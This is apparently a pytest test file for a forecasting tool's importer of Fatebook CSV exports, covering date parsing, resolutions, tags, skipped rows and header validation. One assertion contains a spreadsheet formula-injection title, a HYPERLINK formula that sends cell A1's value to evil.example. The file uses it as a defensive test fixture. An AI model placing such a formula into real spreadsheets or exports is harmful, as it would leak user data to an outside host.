"""Fatebook's CSV export, column for column (tests/fixtures/trackers/fatebook.csv is written the way
Fatebook writes it: quoted strings, bare numbers and dates, unpadded seconds, rows joined by LF)."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from forecast.core.errors import InvalidInput
from forecast.ingest.trackers import fatebook
from forecast.ingest.trackers.common import micros, zone


def us(*args, tz=UTC) -> int:
    return micros(datetime(*args), tz)


@pytest.fixture
def conv(fixtures):
    return fatebook.convert(str(fixtures / "fatebook.csv"))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2024-03-05 14:07:3", datetime(2024, 3, 5, 14, 7, 3)),
        ("2024-03-05 14:07:03", datetime(2024, 3, 5, 14, 7, 3)),
        ("2024-3-5 4:7:3", datetime(2024, 3, 5, 4, 7, 3)),
        ("2024-03-05 14:07:3.5", datetime(2024, 3, 5, 14, 7, 3, 500000)),
        ("2024-03-05T14:07:03Z", datetime(2024, 3, 5, 14, 7, 3, tzinfo=UTC)),
    ],
)
def test_dates_with_unpadded_seconds(text, expected):
    assert fatebook.parse_stamp(text, "x") == expected


@pytest.mark.parametrize("text", ["yesterday", "2024-03-05", "2024-13-05 14:07:3", "2024-03-05 14:07:60", ""])
def test_bad_dates_are_refused(text):
    with pytest.raises(InvalidInput):
        fatebook.parse_stamp(text, "Forecast created at")


def test_questions_resolutions_and_tags(conv):
    by_title = {}
    for q in conv.batch.questions:
        by_title.setdefault(q.title, []).append(q)
    rain = by_title["Will it rain in London on 6 March?"]
    assert [q.resolution for q in rain] == ["yes", "no"]  # same title, two questions
    assert rain[0].slug != rain[1].slug and all(q.slug.startswith("fb-will-it-rain") for q in rain)
    assert rain[0].opens_at == us(2024, 3, 5, 14, 7, 3)
    # resolved after "resolve by": forecasting stayed open until the resolution
    assert rain[0].resolves_at == us(2024, 3, 7)
    assert rain[0].closes_at == rain[0].resolved_at == us(2024, 3, 7, 9, 15, 42)
    formula = next(q for q in conv.batch.questions if q.title.startswith("="))
    assert formula.title == '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert (formula.resolution, formula.status) == ("annulled", "annulled")
    assert formula.tags == ["health", "work"]
    assert formula.description == 'Notes with "quotes"\nand a second line'
    office = by_title["Will the new office open by June?"][0]
    assert (office.resolution, office.resolved_at, office.status) == (None, None, "open")
    cup = by_title["Which team wins the cup?"][0]  # Alice's Red 60 %, Blue 40 %: one choice forecast
    assert (cup.kind, cup.status) == ("choice", "open")


def test_forecasts_and_skipped_rows(conv):
    got = [(line, f.forecaster, f.probability) for f, line in zip(conv.batch.forecasts, conv.batch.forecast_lines)]
    assert got == [
        (2, "Alice", 0.7), (3, "Bob", 0.4), (4, "Alice", 0.85), (6, "Alice", 0.2), (7, "Bob", 0.1),
        (8, "Alice", 0.5), (16, "Alice", 0.4), (12, "Alice", 0.6),
    ]  # fmt: skip
    assert conv.batch.forecasts[-1].vector == (0.4, 0.6, 0.0)  # blue, red, other
    assert conv.batch.forecasts[2].made_at == us(2024, 3, 6, 8, 0, 9)
    reasons = dict(conv.batch.skipped)
    assert reasons[5] == "duplicate of line 3"
    assert reasons[10].startswith("replaced by line 16")
    assert "1.7" in reasons[13]
    assert "yesterday" in reasons[14]
    assert reasons[15] == "expected 17 columns, found 4"
    assert sorted(reasons) == [5, 10, 13, 14, 15]
    assert conv.notes["late_forecasts"] == 1  # Bob forecast after question B resolved
    assert conv.notes["never_scored_questions"] == 0


def test_slugs_do_not_depend_on_the_time_zone(fixtures):
    utc = fatebook.convert(str(fixtures / "fatebook.csv"))
    london = fatebook.convert(str(fixtures / "fatebook.csv"), tz=zone("America/New_York"))
    assert [q.slug for q in utc.batch.questions] == [q.slug for q in london.batch.questions]
    assert london.batch.forecasts[0].made_at == us(2024, 3, 5, 14, 7, 3, tz=zone("America/New_York"))
    assert london.batch.forecasts[0].made_at - utc.batch.forecasts[0].made_at == 5 * 3600 * 10**6


def test_a_changed_header_is_refused(tmp_path, fixtures):
    text = (fixtures / "fatebook.csv").read_text().replace("Question tags", "Tags", 1)
    path = tmp_path / "f.csv"
    path.write_text(text)
    with pytest.raises(InvalidInput, match="missing 'Question tags'; unexpected 'Tags'"):
        fatebook.convert(str(path))


def test_an_excel_byte_order_mark_is_ignored(tmp_path, fixtures):
    path = tmp_path / "bom.csv"
    path.write_bytes(b"\xef\xbb\xbf" + (fixtures / "fatebook.csv").read_bytes())
    assert len(fatebook.convert(str(path)).batch.forecasts) == 8


def test_resolution_without_time_is_a_bad_row(tmp_path):
    header = ",".join(fatebook.HEADER)
    row = '"Q",,"A",0.5,2024-01-01 00:00:0,"A",2024-01-01 00:00:0,2024-02-01 00:00:0,"YES",,,,"",,false,"",""'
    path = tmp_path / "f.csv"
    path.write_text(header + "\n" + row)
    conv = fatebook.convert(str(path))
    assert conv.batch.skipped == [(2, "Resolution YES without a 'Resolved at' time")]
    assert conv.batch.questions == [] and conv.batch.forecasts == []
